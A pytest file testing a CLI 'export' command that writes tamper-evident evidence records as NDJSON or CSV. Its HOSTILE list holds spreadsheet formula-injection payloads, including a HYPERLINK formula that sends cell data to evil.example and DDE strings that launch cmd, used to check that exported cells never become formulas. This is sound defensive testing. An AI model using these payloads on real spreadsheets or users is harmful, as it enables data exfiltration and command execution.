"""`export`: the evidence as one file that proves itself, opened by a spreadsheet too."""

import csv
import io
import json
import re
import subprocess
import sys
from contextlib import closing
from hashlib import sha256
from pathlib import Path
from typing import Any

import orjson
import pytest

from capture_gateway.core.act import Intent
from capture_gateway.storage import records
from capture_gateway.storage.database import Database, beside
from capture_gateway.testing.keys import KEYS
from tests import npm
from tests.cli.conftest import Run
from tests.core.values import act
from tests.postgres import name_database, url_of
from tests.storage.filled import fields_of, fill

HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1",
    "'=1+1", '"=1+1', '",=1+1', '"\r\n=1+1,"', "a\n=1+1", "a\r\n=1+1\r\n", "a;=1+1", "a\t=1+1", "a|=1+1", "a,=1+1",
    'a";=1+1', 'a;"=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", 'DDE ("cmd";"/C")',
    "#export", "é 🙂 \u2028 \x7f", "{=1+1}", "=" * 3_000,
)  # fmt: skip
PLAIN = 40


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Hostile texts, both as what somebody typed and as the words that were given; then trials and another program."""
    project = tmp_path_factory.mktemp("project")
    name_database(project)
    made = [
        fields_of(act(Intent.ASK, number, value=text), words=text) | {"decision.reason": text}
        for number, text in enumerate(HOSTILE)
    ]
    trials = [fields_of(act(Intent.ASK, number)) for number in range(100, 103)]
    others = [fields_of(act(Intent.WITHDRAW, number)) for number in range(200, 200 + PLAIN)]
    made += [fields | {"program.id": "trial", "program.test": True} for fields in trials]
    made += [fields | {"program.id": "other", "decision.extent": "program"} for fields in others]
    fill(project / "var/evidence.db", made)
    return project


def read(project: Path, **asked: Any) -> list[dict[str, Any]]:
    with beside(url_of(database(project)), KEYS) as connection:
        return [*records.read(connection, **asked)]


def rows(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as text:
        return [*csv.reader(text, strict=True)]


def database(project: Path) -> Path:
    return project / "var/evidence.db"


def test_ndjson_is_what_the_api_gives_and_a_line_that_proves_it(run: Run, project: Path) -> None:
    done = run("export", project)
    *lines, last, _ = re.split(r"(?<=\n)", done.out)
    assert "".join(lines).encode() == b"".join(orjson.dumps(one) + b"\n" for one in read(project, tests=False))
    with beside(url_of(database(project)), KEYS) as connection:
        size, root = records.head(connection)
    told = json.loads(last)["export"]
    assert told.pop("made_at").endswith("Z")
    assert told == {
        "records": len(HOSTILE) + PLAIN,
        "first": 0,
        "last": size - 1,
        "sha256": sha256("".join(lines).encode()).hexdigest(),
        "ledger": {"size": size, "root": root.hex()},
        "program": None,
        "after": -1,
        "tests": False,
    }
    assert done.code == 0
    assert f"of a ledger of {size} with the root {root.hex()}" in done.err


@pytest.mark.parametrize(
    ("options", "asked"),
    [
        (["--include-tests"], {}),
        (["--program", "other"], {"programs": ["other"]}),
        (["--program", "trial"], {"programs": []}),
        (["--program", "trial", "--include-tests"], {"programs": ["trial"]}),
        (["--after", str(len(HOSTILE) + 10)], {"after": len(HOSTILE) + 10}),
        (["--after", "9007199254740992"], {"programs": []}),
    ],
    ids=" ".join,
)
def test_which_records(run: Run, project: Path, options: list[str], asked: dict[str, Any]) -> None:
    *lines, _, _ = run("export", project, *options).out.split("\n")
    assert [json.loads(line) for line in lines] == read(project, **asked)


def test_csv_holds_every_text_exactly(run: Run, project: Path, tmp_path: Path) -> None:
    file = tmp_path / "evidence.csv"
    assert run("export", project, "--format", "csv", "--out", file).code == 0
    header, *found, last = rows(file)
    assert len(found) == len(HOSTILE) + PLAIN
    for text, row in zip(HOSTILE, found, strict=False):
        for column in ("act.value", "disclosure.text", "decision.reason"):
            assert re.sub(r"(^|[,;|\t\r\n])'", r"\1", row[header.index(column)]) == text
    assert found[0][header.index("subject.address")] == "tel:+14155550123"
    assert last[0] == "#export"
    assert run("export", "--check", file).out.startswith(f"{file} is as it was written: {len(found)} records")


OPENED = """
const XLSX = require("xlsx"), given = JSON.parse(require("fs").readFileSync(0, "utf8"));
const begins = value => typeof value === "string" && /^[\\s"]*[=+\\-@＝＋－＠]/.test(value);
const opened = given.separators.map(separator => {
  const book = XLSX.read(Buffer.from(given.csv, "utf8"), {type: "buffer", ...(separator && {FS: separator})});
  const cells = Object.entries(book.Sheets[book.SheetNames[0]]).filter(([name]) => name[0] !== "!");
  const bad = cells.filter(([, cell]) => cell.f !== undefined || begins(cell.v) || begins(cell.w));
  return {cells: cells.length, bad: bad.length, example: bad[0]};
});
console.log(JSON.stringify(opened));
"""


def test_no_cell_is_a_formula_in_a_spreadsheet_whatever_it_takes_for_a_separator(run: Run, project: Path) -> None:
    """SheetJS, run by Node.js; the same texts as another program would write them are many formulas."""
    written = run("export", project, "--format", "csv").out
    careless = io.StringIO(newline="")
    csv.writer(careless).writerows([text] for text in HOSTILE)
    separators = ["", ",", ";", "\t", "|"]
    (bad, *_) = json.loads(npm.run(OPENED, json.dumps({"csv": careless.getvalue(), "separators": [""]})))
    assert bad["bad"] > len(HOSTILE) // 3
    for opened in json.loads(npm.run(OPENED, json.dumps({"csv": written, "separators": separators}))):
        assert opened["cells"] > len(HOSTILE)
        assert opened["bad"] == 0, opened["example"]


@pytest.mark.sqlite_only("it looks at the bytes of the file")
def test_a_gateway_that_is_writing_is_not_in_the_way(run: Run, project: Path) -> None:
    before = database(project).read_bytes()
    with closing(Database(url_of(database(project)), KEYS)) as gateway:
        gateway.lock()
        with gateway.transaction():
            assert run("export", project, "--program", "other").out.count("\n") == PLAIN + 1
    assert database(project).read_bytes() == before


def test_on_a_terminal_it_says_how_far_it_is(run: Run, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "/s" not in run("export", project).err
    monkeypatch.setenv("FORCE_COLOR", "1")
    err = run("export", project).err
    assert f"100 % {len(HOSTILE) + PLAIN} records, " in re.sub("\x1b\\[[0-9;]*m", "", err)
    assert "/s" in err


def test_what_cannot_be_exported_is_said_in_one_line(run: Run, project: Path, tmp_path: Path) -> None:
    (tmp_path / "there").write_text("something", encoding="utf-8")
    for arguments in (
        (tmp_path,),
        (project, "--program", "nobody"),
        (project, "--program", "a\n"),
        (project, "--format", "xlsx"),
        (project, "--after", "-2"),
        (project, "--out", tmp_path / "there"),
        (project, "--out", tmp_path / "no/where"),
        (project, "--force", "--out", tmp_path),
        ("--check", tmp_path / "there"),
        ("--check", tmp_path / "nowhere"),
    ):
        done = run("export", *arguments)
        assert (done.code, done.out, done.err.count("\n")) == (2, "", 1), arguments
    assert (tmp_path / "there").read_text(encoding="utf-8") == "something"


def test_a_full_disk_leaves_no_file(project: Path, tmp_path: Path) -> None:
    command = "import resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, (60_000, 60_000))\n"
    command += "from capture_gateway.cli import main; sys.argv[1:] = ['export', *sys.argv[1:]]; main()"
    done = subprocess.run(
        [sys.executable, "-c", command, project, "--out", tmp_path / "evidence.ndjson"],
        text=True,
        capture_output=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (
        2,
        f"capture-gateway: {tmp_path / 'evidence.ndjson'} cannot be written: File too large.\n",
    )
    assert [*tmp_path.iterdir()] == []
